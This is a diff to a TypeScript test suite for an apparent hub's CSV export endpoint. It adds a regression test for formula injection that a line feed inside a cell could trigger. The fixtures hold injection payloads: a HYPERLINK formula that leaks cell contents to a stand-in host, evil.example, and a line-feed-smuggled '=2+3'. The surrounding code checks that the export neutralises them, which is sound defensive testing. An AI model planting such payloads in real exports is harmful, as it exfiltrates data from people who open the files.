@@ -23,6 +23,7 @@ process.env.HUB_JWT_SECRET = TEST_JWT_SECRET;
 const temp = mkdtempSync(join(tmpdir(), 'hub-exports-'));
 const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
 const AS_OF = '2018-06-01';
+const LF_PAYLOAD = 'approx\n=2+3';
 
 let graph: TestGraph;
 let origin: string;
@@ -45,6 +46,9 @@ beforeAll(async () => {
       source_line: 33,
     },
   ];
+  // Issue 23: a bare LF in loaded text started a CSV line with "=2+3" (rows end in CRLF, so the cell
+  // was not quoted, and only a cell's first character was checked).
+  rows.push({ ...rows[0], id: 'workforce.QJM.0a', qualifier: LF_PAYLOAD } as (typeof rows)[number]);
   writeFileSync(join(temp, 'hostile.json'), JSON.stringify(rows));
   const err: string[] = [];
   const code = await runLoadCommand(
@@ -65,7 +69,15 @@ afterAll(async () => {
 
 const get = (path: string, headers: Record<string, string> = {}) => fetch(`${origin}${path}`, { headers });
 /** OWASP CSV injection: what a text cell must look like once neutralised (independent of the implementation). */
-const defused = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
+const defused = (value: string) =>
+  value
+    .split(/(\r\n|\n|\r)/)
+    .map((part, i) =>
+      i % 2 === 0 && (/^[=+\-@\t\r]/.test(part) || (i === 0 && part === '' && value.startsWith('\r')))
+        ? `'${part}`
+        : part,
+    )
+    .join('');
 const cite = (s: { document: { file: string }; line: number } | null | undefined) =>
   s ? `${s.document.file}:${s.line}` : '';
 
@@ -196,9 +208,16 @@ describe('GET /exports/stps.csv', () => {
       capitalRequiredGbpM: '205',
     });
     // The loaded statement comes out as text a spreadsheet will not run.
-    expect(qjm?.workforceQualifiers?.startsWith(`'${HOSTILE}; ≈`)).toBe(true);
-    expect(qjm?.workforceStatements?.startsWith("'- Significant staffing challenges; high vacancy rate")).toBe(true);
+    expect(qjm?.workforceQualifiers?.startsWith(`'${HOSTILE}; approx\n'=2+3; ≈`)).toBe(true);
+    expect(
+      qjm?.workforceStatements?.startsWith(
+        "'- Significant staffing challenges; - Significant staffing challenges; high vacancy rate",
+      ),
+    ).toBe(true);
     expect(body).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    // No physical line of the file starts a formula: the LF is inside a quoted cell, and its line is defused.
+    expect(body.split(/\r\n|\n|\r/).filter((line) => /^[=+\-@\t]/.test(line))).toEqual([]);
+    expect(body).toContain("approx\n'=2+3");
   });
 
   it('answers the same rows as JSON, figures as exact decimal strings', async () => {
